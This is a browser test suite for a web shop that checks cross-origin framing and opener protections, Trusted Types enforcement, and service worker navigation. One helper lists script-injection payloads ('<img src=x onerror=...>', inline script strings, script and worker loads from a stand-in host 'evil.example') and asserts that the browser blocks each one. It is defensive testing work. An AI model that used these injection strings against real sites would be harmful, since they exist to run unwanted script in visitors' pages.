import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { waitForStart } from '../../scripts/lib/page.ts';
import { waitForPath } from '../support/browser/visible-text.ts';
import {
  alternateTests,
  inEachLanguage,
  openShopInBrowser,
  type ShopInBrowser,
  twoVisitors,
} from '../support/browser.ts';
import { waitForServiceWorker } from '../support/service-worker.ts';

let shop: ShopInBrowser;
/** A site of another origin with one empty page. */
let elsewhere: Server;

beforeAll(async () => {
  elsewhere = createServer((_, response) =>
    response.setHeader('content-type', 'text/html').end('<!doctype html><title>elsewhere</title><body>'),
  ).listen(0, '127.0.0.1');
  shop = await openShopInBrowser();
});

afterAll(async () => {
  await shop.close();
  elsewhere.close();
});

const desktopVisitor = { language: 'en', width: 1440 } as const;
const site = () => `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;

describe('a page of another origin', () => {
  test('another origin cannot frame the shop or load its pictures', async () => {
    const { page, leave } = await shop.visit(desktopVisitor);
    await page.goto(`${shop.url}/product/cup-tea-01`);
    const picture = await page.locator('main img').first().getAttribute('src');
    await page.goto(site());
    const isShown = await page.evaluate(
      async ([url, src]) => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        const image = document.body.appendChild(document.createElement('img'));
        const arrived = (element: HTMLElement) =>
          new Promise<boolean>((resolve) => {
            element.addEventListener('load', () => resolve(true));
            element.addEventListener('error', () => resolve(false));
          });
        const arrivals = [arrived(frame), arrived(image)];
        frame.src = url;
        image.src = url + src;
        return await Promise.all(arrivals);
      },
      [shop.url, picture ?? ''] as const,
    );
    expect(isShown[1]).toBe(false);
    // a refused frame still fires load, and shows the browser's error page
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    await expect.poll(() => framed?.url()).toMatch(/^chrome-error:/);
    await leave();
  });

  test('another origin keeps no reference to a window that it opens with the shop', async () => {
    const { page, context, leave } = await shop.visit(desktopVisitor);
    await page.goto(site());
    const opened = context.waitForEvent('page');
    await page.evaluate((url) => Reflect.set(globalThis, 'held', open(url)), shop.url);
    const window = await opened;
    await window.waitForURL(`${shop.url}/`);
    expect(await window.evaluate(() => opener)).toBeNull();
    await expect.poll(() => page.evaluate(() => Reflect.get(globalThis, 'held').closed)).toBe(true);
    await leave();
  });
});

/** Tries what an injected script would, and returns the name of the error that stopped each attempt. */
const tryToBecomeScript = (page: Page): Promise<string[]> =>
  page.evaluate(async () => {
    const policies = Reflect.get(globalThis, 'trustedTypes');
    const trials: readonly (() => unknown)[] = [
      () => Reflect.set(document.body.appendChild(document.createElement('p')), 'innerHTML', '<img src=x onerror=a()>'),
      () => document.write('<script>a()</script>'),
      () => Reflect.set(document.createElement('iframe'), 'srcdoc', '<script>a()</script>'),
      () => Reflect.set(document.createElement('script'), 'src', 'https://evil.example/a.js'),
      () => Reflect.set(document.createElement('script'), 'textContent', 'a()'),
      () => new DOMParser().parseFromString('<script>a()</script>', 'text/html'),
      () => new Worker('https://evil.example/a.js'),
      () => navigator.serviceWorker.register('/assets/other.js'),
      () => policies.createPolicy('mine', { createHTML: (text: string) => text }),
      () => policies.createPolicy('default', { createHTML: (text: string) => text }),
    ];
    const stopped: string[] = [];
    for (const attempt of trials) {
      try {
        await attempt();
        stopped.push('nothing');
      } catch (error) {
        stopped.push(error instanceof Error ? error.name : 'something');
      }
    }
    return stopped;
  });

describe.each(twoVisitors)(inEachLanguage, (visitor) => {
  const testOnce = alternateTests(visitor, test);

  testOnce('no text becomes a script in a page of the shop', async () => {
    const { page, open, faults, leave } = await shop.visit(visitor, { isKeptOpen: true });
    await open('/');
    const stopped = await tryToBecomeScript(page);
    expect(stopped).toEqual(stopped.map(() => 'TypeError'));
    await expect.poll(() => faults.join()).toContain('TrustedHTML');
    await leave();
  });

  testOnce('navigating with the service worker active causes no policy violation', async () => {
    const { page, open, faults, leave } = await shop.visit(visitor, { isKeptOpen: true });
    await open('/');
    await waitForServiceWorker(page);
    for (const path of ['/products', '/product/cup-tea-01', '/about', '/contact', '/cart']) {
      await page.locator(`a[href="${path}"]:visible`).first().click();
      await waitForPath(page, path);
      await page.locator('main h1').first().waitFor();
    }
    for (const path of ['/api/docs', '/healthz']) await page.goto(path);
    const mailboxUrl = /http\S+\/dev\/mailbox\?key=\S+/.exec(shop.shop.output())?.[0] ?? '';
    await page.goto(mailboxUrl);
    expect(await page.locator('main').count()).toBe(1);
    expect(faults).toEqual([]);
    await leave();
  });

  test('a page that an extension changed before hydration is rendered again and works', async () => {
    const { page, t, faults, leave } = await shop.visit(visitor, { before: writeIntoPage });
    // the scripts of the page stay in the rendered body, so `open` would wait for their end
    await page.goto('/product/cup-tea-01');
    const add = page.getByRole('main').getByRole('button', { name: t.catalogue.addToCart }).first();
    await waitForStart(add);
    expect(await page.evaluate(() => Reflect.get(globalThis, 'hasWritten'))).toBe(true);
    expect(await page.getByText('translated', { exact: true }).count()).toBe(0);
    await add.click();
    await expect.poll(() => page.evaluate(() => localStorage.getItem('lazaward-cart'))).toContain('cup-tea-01');
    expect(faults.filter((fault) => fault.includes('trusted-types') || fault.includes('TypeError'))).toEqual([]);
    await leave();
  });
});

/** Changes the page before hydration, as a translation extension does. */
const writeIntoPage = () =>
  new MutationObserver((_, observer) => {
    const heading = document.querySelector('main h1');
    if (!heading) return;
    observer.disconnect();
    heading.textContent = 'translated';
    document.querySelector('header a')?.replaceWith(document.createElement('font'));
    Reflect.set(globalThis, 'hasWritten', true);
  }).observe(document, { childList: true, subtree: true });
